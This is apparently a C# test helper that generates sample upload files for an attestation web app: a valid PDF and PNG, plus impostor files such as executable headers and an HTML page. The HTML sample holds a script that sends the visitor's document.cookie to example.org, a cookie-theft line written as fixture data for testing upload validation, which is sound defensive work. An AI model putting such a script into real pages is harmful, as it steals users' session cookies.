using System.Globalization;
using System.Text;

namespace Attestation.Web.Tests.Teacher;

/// <summary>Files a teacher might choose: real small PDFs and images, and the things that only pretend to be one.</summary>
internal static class SampleFiles
{
    /// <summary>A complete one-page PDF (header, objects, cross-reference table, trailer) that viewers open.</summary>
    public static byte[] Pdf(string text = "Signed application")
    {
        var stream = $"BT /F1 18 Tf 72 720 Td ({text}) Tj ET";
        var objects = new[]
        {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            $"<< /Length {stream.Length} >>\nstream\n{stream}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        };
        var pdf = new StringBuilder("%PDF-1.4\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(pdf.Length);
            pdf.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }
        var xref = pdf.Length;
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
            pdf.Append(CultureInfo.InvariantCulture, $"{offset:D10} 00000 n \n");
        pdf.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(pdf.ToString());
    }

    /// <summary>A PDF of exactly <paramref name="length"/> bytes: a real one padded with a comment before its header ends.</summary>
    public static byte[] PdfOfLength(int length)
    {
        var pdf = Pdf();
        if (length < pdf.Length)
            throw new ArgumentOutOfRangeException(nameof(length), $"A PDF needs at least {pdf.Length} bytes.");
        // Trailing bytes after %%EOF are ignored by viewers; what matters here is the size the server sees.
        var padded = new byte[length];
        pdf.CopyTo(padded, 0);
        Array.Fill(padded, (byte)' ', pdf.Length, length - pdf.Length);
        return padded;
    }

    /// <summary>A 1×1 PNG.</summary>
    public static byte[] Png() => Convert.FromHexString(
        "89504E470D0A1A0A0000000D49484452000000010000000108060000001F15C4890000000A49444154789C6300010000050001"
        + "0D0A2DB40000000049454E44AE426082");

    /// <summary>A web page: what a «скан.pdf» saved from the browser's «Save as…» really is.</summary>
    public static byte[] Html() => Encoding.UTF8.GetBytes(
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Заявление</title></head>"
        + "<body><script>document.location='https://example.org/?c='+document.cookie</script></body></html>");

    /// <summary>The start of a Linux executable.</summary>
    public static byte[] Elf()
    {
        var elf = new byte[256];
        new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0 }.CopyTo(elf, 0);
        return elf;
    }

    /// <summary>The start of a Windows executable.</summary>
    public static byte[] Mz()
    {
        var exe = new byte[256];
        new byte[] { (byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0 }.CopyTo(exe, 0);
        Encoding.ASCII.GetBytes("This program cannot be run in DOS mode.").CopyTo(exe, 0x4E);
        return exe;
    }
}
